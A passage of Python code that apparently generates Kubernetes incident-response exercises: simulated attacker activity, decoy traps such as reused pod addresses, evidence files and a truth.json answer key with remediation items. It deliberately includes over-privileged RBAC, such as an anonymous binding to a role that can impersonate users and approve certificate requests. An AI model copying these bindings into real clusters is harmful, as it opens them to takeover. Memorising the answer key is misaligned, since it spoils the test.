                p, t + dt.timedelta(seconds=5 + k), user="system:serviceaccount:kube-system:daemon-set-controller"
            )
        w.must("restore", "workload:logging/daemonsets/fluent-bit", "the attacker removed the logging agent")

    def cover_pods_deleted(self) -> None:
        w, actor = self.w, self.actor
        assert actor is not None
        t = self.now(1)
        gone = [p for p in self.made if p.deleted is None and p.owner is None][:2]
        if not gone:
            return self.cover_events_deleted()
        sid = w.step(
            "cover-tracks",
            "The attacker's pods deleted",
            phase="Installation",
            tactic="Defense Evasion",
            techniques=("MS-TA9022", "T1070", "T1070.004"),
            start=t,
            end=t + dt.timedelta(minutes=1),
            user=actor.user,
            namespace=gone[0].namespace,
            pod=gone[0].name,
        )
        for k, p in enumerate(gone):
            w.delete_pod(p, t + dt.timedelta(seconds=5 * k), actor=actor, step=sid)

    # traps and truth ---------------------------------------------------------------
    def traps(self) -> None:
        w = self.w
        # the foothold goes and its address is taken by an innocent pod (when the pod was exploited)
        if self.patient_zero.get("kind") == "pod":
            first = next(p for p in w.pods if f"{p.namespace}/{p.name}" == self.patient_zero["entity"])
            if first.deleted is None and w.rng.random() < 0.7:
                gone = w.at(self.t + 10)
                w.delete_pod(first, gone)
                reuse = w.pod(
                    "shop",
                    "cart",
                    "Deployment",
                    first.node,
                    "cart",
                    "registry.corp/shop/cart:2.4.1",
                    gone + dt.timedelta(minutes=8),
                    ip=first.ip,
                )
                w.truth["ip_attribution"].append(
                    {
                        "ip": first.ip,
                        "time": iso(gone + dt.timedelta(minutes=20)),
                        "namespace": "shop",
                        "pod": reuse.name,
                        "note": "the same address, reused by an innocent pod",
                    }
                )
                w.lookalike("ip-reuse", f"shop/{reuse.name}")
                if self.c.api is not None:
                    for k in range(3):
                        w.flow(gone + dt.timedelta(minutes=12 + 5 * k), reuse, self.c.api, 8443)
            if self.address_known(first):
                w.truth["ip_attribution"].append(
                    {
                        "ip": first.ip,
                        "time": self.patient_zero_time,
                        "namespace": first.namespace,
                        "pod": first.name,
                        "note": "patient zero during the attack",
                    }
                )
            else:  # nothing ties its address to it: the flow from outside cannot be pinned on the pod
                self.path = [
                    e for e in self.path if e != (f"ip:{self.attacker}", f"pod:{first.namespace}/{first.name}")
                ]
        w.truth["ip_attribution"].append(
            {"ip": self.attacker, "time": iso(w.at(self.t)), "namespace": None, "pod": None, "note": "outside"}
        )
        # a name reused: the database pod restarts under the same name with a new address
        db = self.c.db
        if db is not None and db.deleted is None and w.rng.random() < 0.6:
            gone = w.at(self.t + 20)
            w.delete_pod(db, gone, user="system:serviceaccount:kube-system:statefulset-controller")
            again = w.pod(
                "data",
                "postgres",
                "StatefulSet",
                w.rng.choice(w.layout.node_names),
                "postgres",
                db.image,
                gone + dt.timedelta(seconds=40),
                name=db.name,
            )
            # the old incarnation predates the evidence: only a flow log that names pods ties its address to it
            seen = [
                f.time
                for f in w.emitted.flows
                if f.dst is not None
                and f.dst.pod == db.name
                and f.dst_ip == db.ip
                and f.time < gone
                and (w.layout.cni is not None or f.src_host != f.dst_host)
            ]  # a VPC log never sees traffic within one node
            if seen and w.flows_name_pods:
                w.truth["ip_attribution"].append(
                    {
                        "ip": db.ip,
                        "time": iso(max(seen)),
                        "namespace": "data",
                        "pod": db.name,
                        "note": "before its restart",
                    }
                )
            w.truth["ip_attribution"].append(
                {
                    "ip": again.ip,
                    "time": iso(gone + dt.timedelta(minutes=5)),
                    "namespace": "data",
                    "pod": db.name,
                    "note": "the same name, a new address",
                }
            )
            self.c.db = again
        for p in self.made[:1]:
            w.truth["ip_attribution"].append(
                {
                    "ip": p.ip,
                    "time": iso(p.created + dt.timedelta(seconds=30)),
                    "namespace": p.namespace,
                    "pod": p.name,
                    "note": "a pod the attacker made" + (" (host network)" if p.host_network else ""),
                }
            )

    def address_known(self, p: Pod) -> bool:
        """Whether the evidence ties ``p``'s address to it: the inventory dump lists it, the audit
        log has its creation (and its status), or a flow log names pods."""
        dump = T0 + DUMP_AT
        return self.w.flows_name_pods or p.created > T0 or (p.deleted is None or p.deleted > dump)

    @property
    def patient_zero_time(self) -> str:
        """A moment patient zero held its address: the entry step, once the pod was running."""
        step = next(s for s in self.w.truth["steps"] if s["id"] in ("exploit", "supply-chain"))
        first = next(p for p in self.w.pods if f"{p.namespace}/{p.name}" == self.patient_zero["entity"])
        return iso(
            max(
                dt.datetime.fromisoformat(step["start"].replace("Z", "+00:00")),
                first.created + dt.timedelta(seconds=30),
            )
        )

    def finish_truth(self) -> None:
        w = self.w
        dump = T0 + DUMP_AT
        reached = {r["pod"] for r in w.truth["reached"]}
        # preserve before destroy: every reached pod still running at the dump (its containers,
        # logs and checkpoint are what containment erases) and every node the attacker held
        running = {f"{p.namespace}/{p.name}" for p in w.live(dump)}
        for r in w.truth["reached"]:
            if r["pod"] in running:
                w.must(
                    "preserve",
                    f"pod:{r['pod']}",
                    f"the attacker reached it ({r['how']}): collect its evidence before containment",
                )
        self.expose(reached, dump)
        exposed = {e["pod"] for e in w.truth["exposed"]}
        must_not = w.truth["remediation"]["must_not"]
        for p in w.pods:
            key = f"{p.namespace}/{p.name}"
            if key in reached:
                continue
            why = (
                "co-located on the escaped node: rotate its tokens, do not isolate it"
                if key in exposed
                else "the attacker never reached it"
            )
            must_not.append({"do": "isolate", "target": f"pod:{key}", "why": why})
        for wl in sorted(
            {
                (p.namespace, p.workload)
                for p in w.pods
                if p.workload and p.namespace in SYSTEM_NAMESPACES and f"{p.namespace}/{p.name}" not in reached
            }
        ):
            must_not.append(
                {
                    "do": "redeploy",
                    "target": f"workload:{wl[0]}/{wl[1][0]}/{wl[1][1]}",
                    "why": "a system component the attacker never reached",
                }
            )
        must_not.append({"do": "block", "target": "private", "why": "never block a private, VPC or cluster address"})
        w.truth["patient_zero"] = self.patient_zero
        w.truth["path_edges"] = [list(e) for e in self.path]
        w.truth["attack_ips"] = sorted({self.attacker, self.c2, self.pool, self.drop} & set(w.truth["attack_entities"]))
        w.truth["escaped_nodes"] = list(self.escapes)
        w.truth["deleted_before_dump"] = [
            f"{p.namespace}/{p.name}" for p in w.pods if p.deleted is not None and p.deleted < T0 + DUMP_AT
        ]

    def expose(self, reached: set[str], dump: dt.datetime) -> None:
        """The co-tenants of each node the attacker held: the pods not reached that ran there at
        or after the escape. Whoever holds a node can read every token its kubelet mounted, so
        each one's service account must be rotated (deleted and recreated, or its pods deleted).
        A bound token dies with its pod (Kubernetes docs, "Bound service account tokens":
        https://kubernetes.io/docs/reference/access-authn-authz/service-account-tokens/), so an
        account whose exposed pods were all gone before the dump is only a ``should``."""
        w = self.w
        for node, since in self.escapes.items():
            for p in w.pods:
                key = f"{p.namespace}/{p.name}"
                if p.node != node or key in reached or (p.deleted is not None and p.deleted <= since):
                    continue
                alive = p.created <= dump and (p.deleted is None or p.deleted > dump)
                w.truth["exposed"].append(
                    {"pod": key, "service_account": f"{p.namespace}/{p.sa}", "node": node, "running_at_dump": alive}
                )
                why = f"its pods' tokens were on node {node}, which the attacker held: rotate it, never isolate them"
                if alive:
                    w.must("rotate", f"sa:{p.namespace}/{p.sa}", why)
                else:
                    item = {
                        "do": "rotate",
                        "target": f"sa:{p.namespace}/{p.sa}",
                        "why": why + f" ({key} ended before the dump)",
                    }
                    if item not in w.truth["remediation"].setdefault("should", []):
                        w.truth["remediation"]["should"].append(item)
        must = {(m["do"], m["target"]) for m in w.truth["remediation"]["must"]}
        if "should" in w.truth["remediation"]:
            w.truth["remediation"]["should"] = [
                m for m in w.truth["remediation"]["should"] if (m["do"], m["target"]) not in must
            ]


def _der(tag: int, body: bytes) -> bytes:
    n = len(body)
    size = (
        bytes([n])
        if n < 0x80
        else bytes([0x80 | len(n.to_bytes((n.bit_length() + 7) // 8, "big"))])
        + n.to_bytes((n.bit_length() + 7) // 8, "big")
    )
    return bytes([tag]) + size + body


def csr_request(common_name: str, organization: str, *, key: str) -> str:
    """``spec.request`` of a CertificateSigningRequest: base64 of a PEM PKCS#10 request (RFC 2986)
    for CN=``common_name``, O=``organization`` — the user and group its certificate
    authenticates as. An Ed25519 public key from ``key`` (hex) and a signature of zeros: a sample
    nobody verifies, the structure and subject as a real request has them."""
    import base64

    oid_cn, oid_o, oid_ed25519 = b"\x06\x03\x55\x04\x03", b"\x06\x03\x55\x04\x0a", b"\x06\x03\x2b\x65\x70"
    name = _der(
        0x30,
        _der(0x31, _der(0x30, oid_o + _der(0x0C, organization.encode())))
        + _der(0x31, _der(0x30, oid_cn + _der(0x0C, common_name.encode()))),
    )
    spki = _der(0x30, _der(0x30, oid_ed25519) + _der(0x03, b"\x00" + bytes.fromhex(key)[:32]))
    info = _der(0x30, _der(0x02, b"\x00") + name + spki + _der(0xA0, b""))
    der = _der(0x30, info + _der(0x30, oid_ed25519) + _der(0x03, b"\x00" + bytes(64)))
    body = base64.b64encode(der).decode()
    pem = (
        "-----BEGIN CERTIFICATE REQUEST-----\n"
        + "\n".join(body[i : i + 64] for i in range(0, len(body), 64))
        + "\n-----END CERTIFICATE REQUEST-----\n"
    )
    return base64.b64encode(pem.encode()).decode()


def _scan(w: World, t: dt.datetime, src: str, dst: str, port: int, step: str) -> Flow:
    return Flow(
        t + w.skew["flows"],
        src,
        dst,
        w.rng.randrange(40000, 60000),
        port,
        action="ACCEPT" if port == 443 else "REJECT",
        packets=1,
        bytes=60,
        reply_packets=1 if port == 443 else 0,
        reply_bytes=60 if port == 443 else 0,
        dst_host=dst,
        step=step,
    )


# ---------------------------------------------------------------------------- writing


def _write(w: World, shape: Shape, root: Path) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    traps = frozenset(t for t in ("truncated-export", "duplicated-export") if w.rng.random() < 0.5)
    written = write_evidence(
        w.emitted,
        root,
        platform=w.platform,
        cluster=w.layout.cluster,
        nodes=dict(w.nodes),
        cni=w.layout.cni,
        traps=traps,
        rng=w.rng,
    )
    by_step = {s["id"]: s for s in w.truth["steps"]}
    for sid, file, line in written.evidence:
        if sid in by_step:
            by_step[sid]["evidence"].append({"file": file, "line": line})
    _inventory(w, root / "inventory")
    truth = w.truth
    truth.pop("_used_ips", None)
    truth.update(
        malformed=written.malformed,
        files=written.files,
        cluster=w.layout.cluster,
        platform=w.platform,
        seed=w.seed,
        shape=shape.as_dict(),
        traps=sorted(traps),
        runtime=w.runtime,
        cni=w.layout.cni,
        start=iso(T0),
        end=iso(T0 + END),
        inventory_dump=iso(T0 + DUMP_AT),
        clock_skew_seconds={k: round(v.total_seconds(), 3) for k, v in w.skew.items()},
    )
    path = root / "truth.json"
    path.write_text(json.dumps(truth, indent=1, sort_keys=True, default=str) + "\n")
    return path


def _inventory(w: World, root: Path) -> None:
    """What ``kubectl get -o json`` would have dumped at ``DUMP_AT``."""
    root.mkdir(parents=True, exist_ok=True)
    dump = T0 + DUMP_AT
    alive = [p for p in w.pods if p.created <= dump and (p.deleted is None or p.deleted > dump)]
    (root / "pods.json").write_text(
        json.dumps(
            {
                "kind": "PodList",
                "apiVersion": "v1",
                "metadata": {"resourceVersion": "918273"},
                "items": [p.object() for p in alive],
            },
            indent=1,
        )
        + "\n"
    )
    prefixes = dict(zip(w.layout.node_names, w.layout.pod_prefixes))
    nodes = {
        "kind": "NodeList",
        "apiVersion": "v1",
        "metadata": {},
        "items": [
            {
                "apiVersion": "v1",
                "kind": "Node",
                "metadata": {"name": n, "uid": stable_uuid(n), "creationTimestamp": iso(T0 - dt.timedelta(days=30), 0)},
                "spec": {
                    **(
                        {
                            "podCIDR": prefixes[n].rsplit(".", 1)[0] + ".0/24",
                            "podCIDRs": [prefixes[n].rsplit(".", 1)[0] + ".0/24"],
                        }
                        if w.platform != "eks"
                        else {}
                    )
                },
                "status": {
                    "addresses": [{"type": "InternalIP", "address": ip}, {"type": "Hostname", "address": n}],
                    "nodeInfo": {"kubeletVersion": "v1.30.4"},
                },
            }
            for n, ip in w.nodes.items()
        ],
    }
    (root / "nodes.json").write_text(json.dumps(nodes, indent=1) + "\n")
    rbac = "rbac.authorization.k8s.io/v1"
    items: list[dict[str, Any]] = [
        {
            "apiVersion": rbac,
            "kind": "Role",
            "metadata": {"name": "web-debug", "namespace": "payments"},
            "rules": [
                {"apiGroups": [""], "resources": ["pods", "pods/exec"], "verbs": ["get", "list", "create"]},
                {"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"], "resourceNames": ["db-credentials"]},
            ],
        },
        {
            "apiVersion": rbac,
            "kind": "RoleBinding",
            "metadata": {"name": "web-debug", "namespace": "payments"},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "web-debug"},
            "subjects": [
                {"kind": "ServiceAccount", "name": "web", "namespace": "shop"},
                {"kind": "ServiceAccount", "name": "cart", "namespace": "shop"},
            ],
        },
        {
            "apiVersion": rbac,
            "kind": "ClusterRole",
            "metadata": {"name": "ops-deployer"},
            "rules": [
                {
                    "apiGroups": ["", "batch", "apps"],
                    "resources": [
                        "pods",
                        "cronjobs",
                        "jobs",
                        "deployments",
                        "daemonsets",
                        "serviceaccounts",
                        "secrets",
                    ],
                    "verbs": ["create", "delete", "get", "list", "patch"],
                },
                {"apiGroups": ["rbac.authorization.k8s.io"], "resources": ["clusterrolebindings"], "verbs": ["create"]},
                {
                    "apiGroups": ["admissionregistration.k8s.io"],
                    "resources": ["mutatingwebhookconfigurations"],
                    "verbs": ["create"],
                },
                {
                    "apiGroups": ["certificates.k8s.io"],
                    "resources": ["certificatesigningrequests", "certificatesigningrequests/approval"],
                    "verbs": ["create", "update"],
                },
                {"apiGroups": [""], "resources": ["users"], "verbs": ["impersonate"]},
                {"apiGroups": [""], "resources": ["events"], "verbs": ["deletecollection"]},
            ],
        },
        *(
            {
                "apiVersion": rbac,
                "kind": "ClusterRoleBinding",
                "metadata": {"name": f"{sa}-deployer"},
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "ops-deployer"},
                "subjects": [{"kind": "ServiceAccount", "name": sa, "namespace": ns}],
            }
            for ns, sa in (("payments", "payments-api"), ("ci", "deployer"))
        ),
        {
            "apiVersion": rbac,
            "kind": "ClusterRoleBinding",
            "metadata": {"name": "developers-edit"},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "ops-deployer"},
            "subjects": [{"kind": "Group", "name": "developers", "apiGroup": "rbac.authorization.k8s.io"}],
        },
        {
            "apiVersion": rbac,
            "kind": "ClusterRoleBinding",
            "metadata": {"name": "anonymous-view"},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "ops-deployer"},
            "subjects": [{"kind": "User", "name": "system:anonymous", "apiGroup": "rbac.authorization.k8s.io"}],
        }
        if w.shape == "anonymous-api"
        else None,
        {
            "apiVersion": "v1",
            "kind": "Service",
            "metadata": {"name": "web", "namespace": "shop"},
            "spec": {
                "type": "LoadBalancer",
                "clusterIP": "10.96.20.10",
                "ports": [{"port": 80, "targetPort": 8080, "nodePort": 30080}],
                "selector": {"app": "web"},
            },
            "status": {"loadBalancer": {"ingress": [{"ip": w.layout.lb_ip}]}},
        },
        {
            "apiVersion": "v1",
            "kind": "Service",
            "metadata": {"name": "kube-dns", "namespace": "kube-system"},
            "spec": {
                "type": "ClusterIP",
                "clusterIP": "10.96.0.10",
                "ports": [{"port": 53, "protocol": "UDP"}],
                "selector": {"k8s-app": "kube-dns"},
            },
        },
        {
            "apiVersion": "v1",
            "kind": "Secret",
            "metadata": {"name": "db-credentials", "namespace": "payments"},
            "type": "Opaque",
            "data": {"password": "c2FtcGxlLW5vdC1hLXJlYWwtc2VjcmV0"},
        },
        *(
            {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": sa, "namespace": ns}}
            for ns, sa in sorted({(p.namespace, p.sa) for p in w.pods})
        ),
    ]
    items = [i for i in items if i is not None]
    for item in items:
        md = item["metadata"]
        md.setdefault("uid", stable_uuid(f"{item['kind']}/{md.get('namespace')}/{md['name']}"))
        md.setdefault("creationTimestamp", iso(T0 - dt.timedelta(days=20), 0))
    (root / "cluster-objects.json").write_text(
        json.dumps({"kind": "List", "apiVersion": "v1", "metadata": {}, "items": items}, indent=1) + "\n"
    )
